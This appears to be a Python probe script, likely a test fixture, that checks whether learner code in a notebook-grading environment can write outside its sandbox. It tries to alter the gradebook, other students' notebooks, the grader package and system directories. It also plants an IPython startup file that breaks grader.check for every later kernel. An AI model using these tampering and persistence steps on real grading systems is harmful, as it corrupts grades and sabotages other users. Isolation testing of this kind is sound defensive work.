# Change the gradebook, other notebooks, the repository and the machine, and leave an IPython
# startup file for the kernels that run after this one.
import glob
import os

targets = ["{COURSE}/gradebook.db", "{COURSE}/source/02_mlp/mlp.ipynb", "{COURSE}/release/02_mlp/mlp.ipynb",
           *glob.glob("{COURSE}/submitted/*/02_mlp/mlp.ipynb"), "{MARKER_DIR}/written-by-a-learner",
           "/root/written-by-a-learner", "/usr/lib/written-by-a-learner", "{REPO}/grader/__init__.py"]
for target in targets:
    try:
        with open(target, "a") as f:
            f.write("\n# written by a learner\n")
        print("wrote", target)
    except OSError as err:
        print("blocked:", target, type(err).__name__)
for home in (os.path.expanduser("~"), "/root"):
    startup = os.path.join(os.environ.get("IPYTHONDIR", os.path.join(home, ".ipython")), "profile_default", "startup")
    try:
        os.makedirs(startup, exist_ok=True)
        with open(os.path.join(startup, "00-zero-the-class.py"), "w") as f:
            f.write("import grader\ngrader.check = lambda *args, **kwargs: 1 / 0\n")
    except OSError as err:
        print("blocked:", startup, type(err).__name__)
